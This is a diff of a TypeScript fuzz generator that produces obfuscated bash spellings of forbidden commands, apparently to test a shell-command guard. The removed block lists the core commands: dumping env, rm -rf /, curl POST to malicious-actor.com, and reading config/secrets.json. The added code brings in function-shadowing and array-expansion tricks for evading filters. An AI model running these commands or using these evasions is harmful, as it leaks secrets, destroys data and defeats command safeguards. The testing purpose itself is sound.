@@ -1,101 +1,5 @@
 /** Spellings: commands that do something forbidden, turned by bash's own means into others that still do it, mostly. Pure. */
-
-export type Random = () => number;
-
-const pick = <T>(random: Random, from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
-const chance = (random: Random, share: number): boolean => random() < share;
-
-/** What is forbidden: to run `env`, to let `rm` at the root, to send to the forbidden host, to read the secret. */
-const cores: readonly ((random: Random) => string)[] = [
-  (random) => word(random, pick(random, ['env', 'env', 'env', '/usr/bin/env', '/bin/env'])),
-  (random) => `${word(random, 'env')} | ${pick(random, ['sort', 'cat', 'head -3'])}`,
-  (random) =>
-    `${word(random, pick(random, ['rm', '/bin/rm']))} ${pick(random, ['-rf /', '-fr /', '-r -f /', '-rf //', '-rf /.', '--recursive --force /', '-rf -- /', '/ -rf', '-Rf /'])}`,
-  (random) =>
-    `curl ${pick(random, ['-X POST', '-XPOST', '-sX POST', '--request POST', '--request=POST', '-d a=b', '--data x', '-F f=x'])} ${pick(random, ['', 'https://', 'http://'])}${pick(random, ['', 'api.', 'www.'])}malicious-actor.com${pick(random, ['', '/x', ':8443/x'])}`,
-  (random) => `${pick(random, readers)} ${secretPath(random)}`,
-  (random) =>
-    `cd ${pick(random, ['../..', '../../config', '/srv/project/config', '../../../project/config'])} ${pick(random, ['&&', ';', '\n'])} cat ${pick(random, ['secrets.json', './secrets.json', 'config/secrets.json', '*', '*/*.json'])}`,
-  (random) => `${pick(random, ['cat', 'head', 'wc', 'sort', 'tac'])} < ${secretPath(random)}`,
-  (random) => `grep -r . ${pick(random, ['../..', '../../config', '/srv/project', '../../config/'])}`,
-  (random) => `cp ${secretPath(random)} copy.txt; cat copy.txt`,
-  (random) => `ln ${pick(random, ['', '-s ', '-f '])}${secretPath(random)} link.txt; cat link.txt`,
-];
-
-const readers = [
-  'cat',
-  'head',
-  'tail',
-  'tac',
-  'nl',
-  'sort',
-  'grep .',
-  'sed -n p',
-  'sed p',
-  'awk 1',
-  'cut -c1-',
-  'rev',
-  'paste',
-  'base64',
-  'od -c',
-  'cat -A',
-  'uniq',
-  'fold',
-  'strings',
-  'diff /dev/null',
-  'jq .',
-  'wc -c',
-  'python3',
-  'bash',
-  'xxd',
-  'dd if=/dev/stdin <',
-];
-
-const spelledPaths = [
-  ...[
-    '../../config/secrets.json',
-    '../../config/./secrets.json',
-    '../../config//secrets.json',
-    '/srv/project/config/secrets.json',
-  ],
-  ...[
-    './../../config/secrets.json',
-    '../../../project/config/secrets.json',
-    '../../config/../config/secrets.json',
-    '$PWD/../../config/secrets.json',
-  ],
-  ...[
-    '../../conf*/secrets.json',
-    '../../config/secret?.json',
-    '../../config/{secrets,x}.json',
-    '../../config/[s]ecrets.json',
-    '../../*/secrets.json',
-    '"$PWD"/../../config/secrets.json',
-    '../../config/*',
-  ],
-];
-const secretPath = (random: Random): string => word(random, pick(random, spelledPaths));
-
-/** One word in other quotes. */
-function word(random: Random, text: string): string {
-  if (chance(random, 0.4) || /[*?{[$"]/.test(text)) return text;
-  let out = '';
-  for (const char of text) {
-    const how = random();
-    if (how < 0.72) out += char;
-    else if (how < 0.78) out += `\\${char}`;
-    else if (how < 0.84) out += `'${char}'`;
-    else if (how < 0.9) out += `"${char}"`;
-    else if (how < 0.93) out += `''${char}`;
-    else if (how < 0.96) out += `${char}""`;
-    else out += `$'\\x${char.charCodeAt(0).toString(16)}'`;
-  }
-  return out;
-}
-
-const single = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
-const double = (text: string): string => `"${text.replace(/[\\"$`]/g, '\\$&')}"`;
-const quote = (random: Random, text: string): string => (chance(random, 0.5) ? single(text) : double(text));
+import { chance, cores, pick, quote, type Random, single } from './core.ts';
 
 type Mutation = (text: string, random: Random) => string;
 
@@ -123,6 +27,7 @@ const wrappers: readonly Mutation[] = [
   (text) => `cat <<X | sh\n${text}\nX`,
   (text, random) => `trap ${quote(random, text)} EXIT`,
   (text, random) => `echo x | xargs -I{} bash -c ${quote(random, text)}`,
+  (text, random) => `find . -maxdepth 0 -exec bash -c ${quote(random, text)} + \\;`,
   (text, random) => `find . -maxdepth 0 -exec bash -c ${quote(random, text)} \\;`,
   (text) => `[ -n "$(${text})" ] && echo "$(${text})"`,
   (text) => `cat <<X\n$(${text})\nX`,
@@ -139,7 +44,33 @@ const wrappers: readonly Mutation[] = [
   (text) => `alias ls=${single(text)}\nls`,
 ];
 
+/** A function that is called like a program, and is not there when the program is wanted. */
+const shadows: readonly Mutation[] = [
+  (text, random) => `(${shadow(random)}); ${text}`,
+  (text, random) => `false && ${shadow(random)}; ${text}`,
+  (text, random) => `if false; then ${shadow(random)}; fi; ${text}`,
+  (text, random) => `${shadow(random)} & ${text}`,
+  (text, random) => `${shadow(random)} | cat; ${text}`,
+  (text, random) => {
+    const name = pick(random, shadowed);
+    return `${name}() { :; }; ${pick(random, ['unset -f', 'command unset -f', 'eval unset -f'])} ${name}; ${text}`;
+  },
+];
+const shadowed = ['env', 'cat', 'rm', 'curl', 'cd', 'find', 'sed', 'bash', 'head'];
+const shadow = (random: Random): string => `${pick(random, shadowed)}() { :; }`;
+
+/** What an array is given in quotes is expanded a second time. */
+const arrays: readonly Mutation[] = [
+  (text, random) =>
+    `${pick(random, ['declare -a', 'typeset -a', 'readonly -a', 'export -a', 'declare -ga'])} x=${single(`($(${text}))`)}; echo "\${x[@]}"`,
+  (text) => `declare -A x=${single(`([a]=$(${text}))`)}; echo "\${x[a]}"`,
+  (text) => `f() { local -a x=${single(`($(${text}))`)}; echo "\${x[@]}"; }; f`,
+  (text) => `x=(1); y=${single(`($(${text}))`)}; declare x="$y"; echo "\${x[@]}"`,
+];
+
 const chains: readonly Mutation[] = [
+  (text) => `cd . && ${text}`,
+  (text) => `cd orders && cd .. && ${text}`,
   (text) => `ls; ${text}`,
   (text) => `ls && ${text}`,
   (text) => `false || ${text}`,
@@ -179,7 +110,8 @@ export function variant(random: Random): string {
   if (chance(random, 0.25)) text = pick(random, indirect)(text, random);
   const turns = Math.floor(random() * 4);
   for (let turn = 0; turn < turns; turn++) {
-    text = (chance(random, 0.6) ? pick(random, wrappers) : pick(random, chains))(text, random);
+    const kind = chance(random, 0.15) ? pick(random, [shadows, arrays]) : chance(random, 0.6) ? wrappers : chains;
+    text = pick(random, kind)(text, random);
   }
   return text;
 }
